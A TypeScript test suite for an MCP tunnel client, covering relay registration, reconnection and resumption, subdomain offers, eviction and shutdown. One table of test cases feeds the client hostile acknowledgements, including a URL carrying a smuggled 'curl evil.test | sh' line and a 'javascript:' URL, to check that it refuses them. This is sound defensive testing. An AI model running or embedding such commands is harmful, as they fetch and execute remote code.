import { createServer } from "node:http";
import { once } from "node:events";
import type { AddressInfo } from "node:net";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { TunnelError } from "mcp-tunnel-protocol";
import type { OpeningSession } from "mcp-tunnel-protocol";
import { bytesAt } from "../../../test/support/bytes.js";
import { closingAfterEach } from "../../../test/support/cleanup.js";
import { declaring } from "../../../test/support/gated.js";
import { startCannedServer, startRawServer } from "../../../test/support/raw-server.js";
import { startUpstream } from "../../../test/support/upstream.js";
import type { Upstream } from "../../../test/support/upstream.js";
import { startTunnelClient, TunnelClient } from "../src/client.js";
import { createService } from "../src/create-service.js";
import type { ClientEvents } from "../src/events.js";
import type { TunnelClientOptions } from "../src/options.js";
import type { DeclaredGate, Service } from "../src/service/service.js";
import { upload, visit } from "./relay-side.js";
import { TestRelay } from "./test-relay.js";

const closing = closingAfterEach();
let relay: TestRelay;
let upstream: Upstream;

beforeEach(async () => {
  upstream = closing(await startUpstream());
  relay = closing(await new TestRelay().listen());
});
afterEach(() => {
  vi.restoreAllMocks();
});

function newClient(options: Partial<TunnelClientOptions> = {}): TunnelClient {
  const client = new TunnelClient({
    port: upstream.port,
    relayUrl: relay.url,
    shutdownGraceMs: 0,
    ...options,
  });
  return closing(client);
}

async function startClient(options: Partial<TunnelClientOptions> = {}): Promise<TunnelClient> {
  const client = newClient(options);
  await client.start();
  return client;
}

/** The next event of that name. */
async function next<Name extends keyof ClientEvents>(
  client: TunnelClient,
  name: Name,
): Promise<ClientEvents[Name][0]> {
  const [event] = await once(client, name);
  return event;
}

/** The local service behind a gate that lets everybody in. */
const gatedBy = (gate: DeclaredGate | undefined): Service =>
  declaring(gate, createService({ port: upstream.port }));

function session(): OpeningSession {
  if (relay.session === undefined) throw new Error("no client is registered");
  return relay.session;
}

describe("startTunnelClient", () => {
  it("registers, serves and says goodbye", async () => {
    const client = await startTunnelClient({
      port: upstream.port,
      relayUrl: relay.url,
      token: "token",
      subdomain: "demo",
    });
    expect(client).toMatchObject({
      url: "https://demo.relay.test",
      subdomain: "demo",
      state: "online",
      wire: "v1",
    });
    expect(relay.registrations[0]).toMatchObject({ token: "token", subdomain: "demo", protocol: [1] });
    const request = next(client, "request");
    expect((await visit(session(), { path: "/status/201" }).complete()).text).toBe("status 201\n");
    expect(await request).toMatchObject({
      method: "GET",
      path: "/status/201",
      status: 201,
      responseBytes: 11,
    });
    expect(client.rttMs).toBeGreaterThan(0);
    await client.close();
    expect(client.state).toBe("closed");
    await relay.until(() => relay.ended.length === 1);
    expect(relay.ended[0]?.code).toBe(1000);
  });

  it("speaks the original's wire to a relay that knows no other", async () => {
    relay.v1 = false;
    const client = await startClient();
    expect(client.wire).toBe("json");
    const body = Buffer.from("hello");
    expect((await visit(session(), { method: "POST", path: "/echo", body }).complete()).text).toBe("hello");
    expect(client.wire).toBe("json-0.2");
  });

  it("rejects at once when the relay refuses", async () => {
    relay.answer = () => ({ close: 4001, reason: "invalid token" });
    const client = newClient({ waitForRelay: true });
    await expect(client.start()).rejects.toMatchObject({
      code: "refused",
      message: expect.stringContaining("invalid token"),
    });
    expect(client.state).toBe("closed");
    expect(relay.registrations.length).toBe(1);
  });

  it.each<[string, DeclaredGate | undefined]>([
    ["has none", undefined],
    ["declares addresses alone", { kinds: [], digest: "x" }],
    ["declares later", { kinds: ["later"], digest: "x" }],
  ])("says what to do when the relay wants a gate and the service %s", async (own, gate) => {
    relay.answer = () => ({
      close: 4001,
      reason: "this relay takes only tunnels with a gate: \u001b[31mpay",
    });
    const service = gatedBy(gate);
    const client = closing(new TunnelClient({ service, relayUrl: relay.url, waitForRelay: true }));
    await expect(client.start()).rejects.toMatchObject({
      code: "refused",
      message:
        "the relay takes only tunnels with a gate that asks visitors for a proof (bearer, basic or oauth), " +
        `and this one ${own}: add --visitor-auth oauth,bearer to the command, or put a gate before the ` +
        "service of a program",
    });
    expect(relay.registrations).toHaveLength(1);
  });

  it("declares the gate of its service with every registration, and none if it has none", async () => {
    const gate = { kinds: ["bearer"], digest: "x" };
    const client = closing(new TunnelClient({ service: gatedBy(gate), relayUrl: relay.url }));
    await client.start();
    relay.cut();
    await next(client, "connected");
    expect(relay.registrations.map((message) => message.gate)).toEqual([gate, gate]);
    await client.close();
    await startClient();
    expect(relay.registrations.at(-1)).not.toHaveProperty("gate");
  });

  it.each<[string, () => void, string]>([
    [
      "an error of the project",
      () => {
        throw new TunnelError("invalid_option", "the gate does not work there");
      },
      "the gate does not work there",
    ],
    [
      "any other error",
      () => {
        throw new TypeError("a bug");
      },
      "the service does not begin at https://demo.relay.test: a bug",
    ],
  ])(
    "ends when the service begins with %s, at the first tunnel and at a later one",
    async (_, fail, message) => {
      const begun: string[] = [];
      let begin = fail;
      const service = { ...gatedBy(undefined), begin: () => begin() };
      const options = { service, relayUrl: relay.url, subdomain: "demo", waitForRelay: true };
      const end = { code: "invalid_option", message };
      await expect(startTunnelClient(options)).rejects.toMatchObject(end);
      begin = () => void begun.push("begin");
      const client = closing(await startTunnelClient(options));
      relay.cut();
      await next(client, "connected");
      // A resumed session is the same tunnel.
      expect([relay.resumptions, begun.length]).toEqual([1, 1]);
      begin = fail;
      const closed = next(client, "closed");
      relay.keeps = false;
      relay.cut();
      expect(await closed).toMatchObject({ error: end });
      expect(client.state).toBe("closed");
    },
  );

  it("rejects when the relay cannot be reached, unless told to wait", async () => {
    await relay.crash();
    await expect(newClient().start()).rejects.toMatchObject({ code: "unreachable" });
    const patient = newClient({ waitForRelay: true });
    const started = patient.start();
    const { cause, attempt } = await next(patient, "reconnecting");
    expect([cause.code, attempt]).toEqual(["unreachable", 1]);
    expect(patient.state).toBe("connecting");
    await relay.listen();
    await started;
    expect(patient.state).toBe("online");
  });

  it("gives up waiting after the time it was given", async () => {
    await relay.crash();
    const client = newClient({ waitForRelay: true, maxReconnectTimeMs: 300 });
    const began = performance.now();
    await expect(client.start()).rejects.toMatchObject({ code: "unreachable" });
    expect(performance.now() - began).toBeGreaterThan(250);
  });

  it("can be closed while it waits", async () => {
    await relay.crash();
    const client = newClient({ waitForRelay: true });
    const started = client.start();
    await next(client, "reconnecting");
    await client.close();
    await expect(started).rejects.toMatchObject({ code: "session_closed" });
  });

  it("says what answered instead of a relay", async () => {
    const web = createServer((_req, res) => res.writeHead(404, "Not Found").end("<html>"));
    web.listen(0, "127.0.0.1");
    await once(web, "listening");
    closing(web);
    const { port } = web.address() as AddressInfo;
    await expect(newClient({ relayUrl: `ws://127.0.0.1:${port}` }).start()).rejects.toThrow(/404 Not Found/);
  });

  it.each([
    ["https://relay.test/_tunnel/register", "is the relay at https://relay.test now?"],
    ["https://relay.test/below/_tunnel/register", "is the relay at https://relay.test/below now?"],
    ["https://login.test/?next=s3cret", "is the relay at https://login.test now?"],
    ["//[", "is an mcp-tunnel relay there?"],
  ])("says where a redirect leads: %s", async (location, question) => {
    const answer = `HTTP/1.1 308 Permanent Redirect\r\nLocation: ${location}\r\nContent-Length: 0\r\n\r\n`;
    const web = closing(await startCannedServer(answer));
    await expect(newClient({ relayUrl: `http://127.0.0.1:${web.port}` }).start()).rejects.toMatchObject({
      code: "unreachable",
      message: `http://127.0.0.1:${web.port}/_tunnel/register answered 308 Permanent Redirect: ${question}`,
    });
  });

  it("says what may be wrong with the scheme of the relay's URL", async () => {
    const silent = closing(await startCannedServer(""));
    await expect(newClient({ relayUrl: `http://127.0.0.1:${silent.port}` }).start()).rejects.toMatchObject({
      code: "unreachable",
      message: expect.stringMatching(/: socket hang up \(the connection was closed without an answer\)$/),
    });
    const relayUrl = `https://127.0.0.1:${upstream.port}`;
    await expect(newClient({ relayUrl }).start()).rejects.toMatchObject({
      code: "unreachable",
      message: `cannot reach the relay at https://127.0.0.1:${upstream.port}: it answers without TLS: use http://`,
    });
  });

  it("does not wait for ever for a relay that says nothing", async () => {
    relay.answer = () => "silence";
    // The time for the connection counts too, which may be long on a busy machine.
    await expect(newClient({ registerTimeoutMs: 1_000 }).start()).rejects.toMatchObject({ code: "timeout" });
    const mute = closing(await startRawServer(() => {}));
    const relayUrl = `http://127.0.0.1:${mute.port}`;
    await expect(newClient({ relayUrl, registerTimeoutMs: 100 }).start()).rejects.toMatchObject({
      code: "unreachable",
      message: expect.stringContaining("timed out"),
    });
  });

  it.each([
    ["no URL", { subdomain: "demo", url: "no url" }],
    ["a URL that a shell would run", { subdomain: "demo", url: "https://demo.test/\ncurl evil.test | sh\n" }],
    ["a URL that a browser would run", { subdomain: "demo", url: "javascript:alert(1)" }],
    ["a version that was not offered", { subdomain: "demo", url: "https://demo.test", protocol: 7 }],
    [
      "a session that it did not ask for",
      { subdomain: "demo", url: "https://demo.test", protocol: 1, resumed: { received: 0 } },
    ],
  ])("does not take an acknowledgement with %s", async (_name, acknowledge) => {
    const { WebSocketServer } = await import("ws");
    const rogue = new WebSocketServer({ port: 0, host: "127.0.0.1" });
    await once(rogue, "listening");
    closing({ close: () => rogue.close() });
    rogue.on("connection", (ws) => {
      ws.on("message", () => {
        ws.send("not json");
        ws.send(Buffer.from("binary"));
        ws.send(JSON.stringify({ unknown: true }));
        ws.send(JSON.stringify(acknowledge));
      });
    });
    const { port } = rogue.address() as AddressInfo;
    await expect(newClient({ relayUrl: `ws://127.0.0.1:${port}` }).start()).rejects.toMatchObject({
      code: "protocol_error",
    });
  });
});

describe("a client that is started twice", () => {
  it.each([
    ["at once", async () => {}],
    ["when it is online", (started: Promise<void>) => started],
  ])("%s refuses the second call and goes on undisturbed", async (_when, moment) => {
    const client = newClient();
    const started = client.start();
    await moment(started);
    await expect(client.start()).rejects.toMatchObject({
      code: "invalid_state",
      message: "the client was started before: make another one",
    });
    await started;
    expect(client.state).toBe("online");
    expect(relay.registrations.length).toBe(1);
  });
});

describe("an offer", () => {
  it("of one name is taken without asking", async () => {
    relay.answer = () => ({ offer: ["only"] });
    expect((await startClient()).subdomain).toBe("only");
  });

  it.each([
    [[], "refused"],
    [["app-*"], "invalid_option"],
    [["a", "b"], "invalid_option"],
  ] as const)("of %j needs somebody to choose", async (offer, code) => {
    relay.answer = () => ({ offer });
    await expect(newClient({ waitForRelay: true }).start()).rejects.toMatchObject({ code });
    expect(relay.registrations.length).toBe(1);
  });

  it("is answered by the program, and the answer is asked for from then on", async () => {
    relay.keeps = false;
    relay.answer = (message) =>
      message.subdomain == null ? { offer: ["app-*", "other"] } : { accept: message.subdomain };
    const pick = vi.fn(async (patterns: readonly string[]) => patterns.at(0)?.replace("*", "x") ?? "");
    const client = await startClient({ pick });
    expect(client.subdomain).toBe("app-x");
    expect(relay.picks).toEqual(["app-x"]);
    const again = next(client, "connected");
    relay.cut();
    await again;
    expect(relay.registrations.at(-1)?.subdomain).toBe("app-x");
    expect(pick).toHaveBeenCalledTimes(1);
  });

  it("is not asked again when the relay lost patience meanwhile", async () => {
    relay.answer = (message) =>
      message.subdomain == null ? { offer: ["a", "b"] } : { accept: message.subdomain };
    const pick = vi.fn(async () => {
      relay.cut();
      await relay.until(() => relay.openConnections === 0);
      return "b";
    });
    const client = await startClient({ pick, waitForRelay: true });
    expect(client.subdomain).toBe("b");
    expect(pick).toHaveBeenCalledTimes(1);
    expect(relay.picks).toEqual([]);
  });

  it("is not asked again when the machine slept meanwhile", async () => {
    relay.answer = () => ({ offer: ["a", "b"] });
    const pick = vi.fn(async () => {
      vi.useFakeTimers({ toFake: ["Date"], now: Date.now() + 600_000 });
      // The client looks at the clock every second.
      await new Promise((resolve) => setTimeout(resolve, 2_100));
      return "b";
    });
    await startClient({ pick });
    vi.useRealTimers();
    expect(pick).toHaveBeenCalledTimes(1);
    expect(relay.registrations.length).toBe(1);
  });

  it("whose answer fails ends the client with the reason", async () => {
    relay.answer = () => ({ offer: ["a", "b"] });
    const pick = (): never => {
      throw new Error("cancelled");
    };
    await expect(newClient({ pick }).start()).rejects.toMatchObject({
      code: "invalid_option",
      message: expect.stringContaining("cancelled"),
    });
  });
});

describe("a pick that is no name", () => {
  it.each([
    ["nothing", undefined, "not undefined"],
    ["a number", 5, "not a number"],
    ["a text", "x".repeat(2_000), "not one of 2000"],
  ])("but %s is refused at once", async (_what, picked, message) => {
    relay.answer = () => ({ offer: ["a", "b"] });
    const pick = (() => picked) as unknown as () => string;
    const client = newClient({ pick, waitForRelay: true, registerTimeoutMs: 60_000 });
    await expect(client.start()).rejects.toMatchObject({
      code: "invalid_option",
      message: `pick must give a name, a string of up to 63 characters, ${message}`,
    });
    expect(client.state).toBe("closed");
    expect(relay.picks).toEqual([]);
  });
});

describe("after a loss of the connection", () => {
  it("what was open goes on, in both directions, and nothing is asked twice", async () => {
    const client = await startClient();
    const events: string[] = [];
    for (const name of ["connected", "disconnected", "reconnecting"] as const) {
      client.on(name, () => events.push(name));
    }
    const length = 20_000_000;
    const down = visit(session(), { path: `/bytes/${length}` });
    const up = visit(session(), { method: "POST", path: "/hash", body: "open" });
    const progress = upload(up, length);
    for (let cuts = 0; cuts < 5; cuts++) {
      const resumed = next(client, "connected");
      relay.cut();
      expect((await resumed).resumed).toBe(true);
    }
    await progress.done;
    expect((await down.complete()).body.equals(bytesAt(0, length))).toBe(true);
    expect(JSON.parse((await up.complete()).text)).toMatchObject({ length });
    expect(upstream.requests.length).toBe(2);
    expect(relay.resumptions).toBe(5);
    expect(events.filter((name) => name === "disconnected").length).toBe(5);
    expect(client.state).toBe("online");
  });

  it("that the relay has forgotten, open requests end and a new session serves", async () => {
    const client = await startClient({ subdomain: "demo" });
    const hanging = upstream.nextRequest();
    visit(session(), { path: "/hang" });
    await hanging;
    const aborted = upstream.nextAbort();
    const again = next(client, "connected");
    await relay.crash();
    await relay.listen();
    expect(await again).toMatchObject({ url: "https://demo.relay.test", resumed: false });
    expect((await aborted).path).toBe("/hang");
    expect(relay.registrations.at(-1)?.resume).toBeDefined();
    expect((await visit(session()).complete()).head?.status).toBe(200);
  });

  it("that lasts longer than the relay keeps sessions, local requests end by themselves", async () => {
    relay.resumeTimeoutMs = 50;
    const client = await startClient();
    visit(session(), { path: "/hang" });
    await upstream.nextRequest();
    const aborted = upstream.nextAbort();
    relay.refusing = true;
    relay.cut();
    await aborted;
    expect(client.state).toBe("reconnecting");
    const again = next(client, "connected");
    relay.refusing = false;
    await again;
    expect(relay.registrations.at(-1)?.resume).toBeUndefined();
  });

  it("comes back with the original's wire too, without what was open", async () => {
    relay.v1 = false;
    const client = await startClient({ subdomain: "demo" });
    visit(session(), { path: "/hang" });
    await upstream.nextRequest();
    const aborted = upstream.nextAbort();
    const again = next(client, "connected");
    relay.cut();
    await aborted;
    expect((await again).resumed).toBe(false);
    expect((await visit(session()).complete()).head?.status).toBe(200);
  });

  it("takes another wire if the relay was replaced meanwhile", async () => {
    const client = await startClient({ subdomain: "demo" });
    const again = next(client, "connected");
    await relay.crash();
    relay.v1 = false;
    await relay.listen();
    expect((await again).wire).toBe("json");
    expect((await visit(session()).complete()).head?.status).toBe(200);
    const back = next(client, "connected");
    await relay.crash();
    relay.v1 = true;
    await relay.listen();
    expect((await back).wire).toBe("v1");
  });

  it("gives up after the time it was given", async () => {
    const client = await startClient({ maxReconnectTimeMs: 200 });
    const closed = next(client, "closed");
    await relay.crash();
    expect((await closed).error).toMatchObject({ code: "unreachable" });
    expect(client.state).toBe("closed");
  });

  it("ends when the relay refuses it now", async () => {
    const client = await startClient();
    const closed = next(client, "closed");
    relay.answer = () => ({ close: 4001, reason: "token revoked" });
    relay.cut();
    expect((await closed).error).toMatchObject({ code: "refused" });
  });

  it("tries at once when the machine has slept", async () => {
    vi.spyOn(Math, "random").mockReturnValue(0.999999);
    const client = await startClient();
    await relay.crash();
    // The waits have grown, so that the next attempt by itself would take a while.
    await vi.waitFor(
      async () => expect((await next(client, "reconnecting")).delayMs).toBeGreaterThan(3_000),
      {
        timeout: 15_000,
        interval: 0,
      },
    );
    await relay.listen();
    const again = next(client, "connected");
    const askedAt = performance.now();
    // Only the wall clock jumps. The timers are real.
    vi.setSystemTime(Date.now() + 600_000);
    await again;
    vi.useRealTimers();
    expect(performance.now() - askedAt).toBeLessThan(2_500);
  });

  it("tries again at once when the machine has slept during an attempt", async () => {
    const client = await startClient({ registerTimeoutMs: 60_000 });
    relay.answer = () => "silence";
    relay.cut();
    await relay.until(() => relay.registrations.length === 2);
    relay.answer = () => ({ accept: "demo" });
    const again = next(client, "connected");
    vi.setSystemTime(Date.now() + 600_000);
    await again;
    vi.useRealTimers();
    expect(relay.registrations.length).toBe(3);
  });
});

describe("a relay that shuts down", () => {
  it("is left for its successor without a failed request, when it ends the session", async () => {
    const client = await startClient({ subdomain: "demo" });
    const lost = vi.fn();
    client.on("disconnected", lost);
    const old = session();
    const slow = visit(old, { path: "/slow?ms=500" });
    await upstream.nextRequest();
    const again = next(client, "connected");
    relay.stopListening();
    old.goaway();
    await relay.listen();
    expect((await again).resumed).toBe(true);
    expect(relay.registrations.at(-1)).toMatchObject({ returning: true });
    expect(relay.registrations.at(-1)).not.toHaveProperty("resume");
    expect(session()).not.toBe(old);
    // Both sessions serve. The old one does so even after it had nothing to do.
    expect((await visit(old).complete()).head?.status).toBe(200);
    expect((await slow.complete()).text).toBe("slow\n");
    await old.idle();
    expect((await visit(old).complete()).head?.status).toBe(200);
    expect((await visit(session()).complete()).head?.status).toBe(200);
    expect(relay.ended).toEqual([]);
    old.close(1001, "the relay is shutting down");
    expect((await visit(session()).complete()).head?.status).toBe(200);
    expect(client.state).toBe("online");
    expect(lost).not.toHaveBeenCalled();
  });

  it("is served until it ends, and is then a loss if it has no successor", async () => {
    const client = await startClient({ subdomain: "demo" });
    const old = session();
    const attempts: { attempt: number; delayMs: number }[] = [];
    client.on("reconnecting", (event) => attempts.push(event));
    relay.stopListening();
    old.goaway();
    // The first attempt is made at once. After its failure the next attempt waits.
    while (attempts.length < 2) await next(client, "reconnecting");
    expect(attempts[0]).toMatchObject({ attempt: 1, delayMs: 0 });
    expect(client.state).toBe("online");
    expect((await visit(old).complete()).head?.status).toBe(200);
    const lost = next(client, "disconnected");
    old.close(1001, "the relay is shutting down");
    await lost;
    expect(client.state).toBe("reconnecting");
    const again = next(client, "connected");
    await relay.listen();
    expect((await again).resumed).toBe(false);
  });

  it("is lost like any other when the machine it runs on fails meanwhile", async () => {
    const client = await startClient({ subdomain: "demo" });
    visit(session(), { path: "/hang" });
    await upstream.nextRequest();
    const aborted = upstream.nextAbort();
    relay.stopListening();
    const moving = next(client, "reconnecting");
    session().goaway();
    await moving;
    const lost = next(client, "disconnected");
    relay.cut();
    await lost;
    expect((await aborted).path).toBe("/hang");
    const again = next(client, "connected");
    await relay.listen();
    await again;
  });
});

describe("an eviction", () => {
  it.each([true, false])("ends the client (version 1: %s)", async (v1) => {
    relay.v1 = v1;
    const evicted = vi.fn();
    const client = await startClient();
    client.on("evicted", evicted);
    const closed = next(client, "closed");
    session().close(4002, "evicted: another client registered with the same tunnel");
    expect((await closed).error).toMatchObject({ code: "evicted" });
    expect(evicted).toHaveBeenCalledTimes(1);
    expect(relay.registrations.length).toBe(1);
  });

  it("is also told to a client that comes back too late", async () => {
    const client = await startClient();
    const closed = next(client, "closed");
    relay.answer = () => ({ close: 4002 });
    relay.cut();
    expect((await closed).error).toMatchObject({ code: "evicted" });
  });
});

describe("close", () => {
  it.each([true, false])("lets open requests finish (version 1: %s)", async (v1) => {
    relay.v1 = v1;
    const client = await startClient({ shutdownGraceMs: 10_000 });
    const slow = visit(session(), { path: "/slow?ms=300" });
    await upstream.nextRequest();
    const closed = client.close();
    expect(client.state).toBe("closing");
    expect((await slow.complete()).text).toBe("slow\n");
    await closed;
    await relay.until(() => relay.ended.length === 1);
    expect(relay.ended[0]?.code).toBe(1000);
  });

  it("cuts them after the grace period", async () => {
    const client = await startClient({ shutdownGraceMs: 100 });
    const hanging = visit(session(), { path: "/hang" });
    await upstream.nextRequest();
    const aborted = upstream.nextAbort();
    await client.close();
    expect((await hanging.cut()).code).toBe("session_lost");
    await aborted;
  });

  it("cuts them at once when called again", async () => {
    const client = await startClient({ shutdownGraceMs: 60_000 });
    const hanging = visit(session(), { path: "/hang" });
    await upstream.nextRequest();
    void client.close();
    await client.close();
    expect((await hanging.cut()).code).toBe("session_lost");
  });

  it("takes no new requests on a wire that cannot say so", async () => {
    relay.v1 = false;
    const client = await startClient({ shutdownGraceMs: 60_000 });
    visit(session(), { path: "/hang" });
    await upstream.nextRequest();
    const closed = client.close();
    await visit(session()).cut();
    expect(upstream.requests.length).toBe(1);
    void client.close();
    await closed;
  });

  it("ends a client that is waiting to come back", async () => {
    const client = await startClient({ shutdownGraceMs: 60_000 });
    await relay.crash();
    await next(client, "reconnecting");
    await client.close();
    expect(client.state).toBe("closed");
  });

  it("may be called any number of times, and before the start", async () => {
    const client = newClient();
    await client.close();
    await client.close();
    expect(client.state).toBe("closed");
    await expect(client.start()).rejects.toMatchObject({ code: "invalid_state" });
    expect(relay.registrations).toEqual([]);
  });
});

describe("listeners", () => {
  it("cannot break the client by throwing", async () => {
    const thrown: unknown[] = [];
    const onUncaught = (error: unknown): void => void thrown.push(error);
    const listeners = process.listeners("uncaughtException");
    process.removeAllListeners("uncaughtException");
    process.on("uncaughtException", onUncaught);
    try {
      const client = await startClient();
      client.on("request", () => {
        throw new Error("a listener's fault");
      });
      expect((await visit(session()).complete()).head?.status).toBe(200);
      expect((await visit(session()).complete()).head?.status).toBe(200);
      await vi.waitFor(() => expect(thrown.length).toBe(2));
    } finally {
      process.off("uncaughtException", onUncaught);
      for (const listener of listeners) process.on("uncaughtException", listener);
    }
  });

  it("learn of a local service that is down, and need not", async () => {
    const client = await startClient();
    await upstream.close();
    await visit(session()).cut();
    const fault = next(client, "fault");
    await visit(session()).cut();
    expect(await fault).toMatchObject({ code: "upstream_unreachable" });
    upstream = closing(await startUpstream(upstream.port));
  });
});
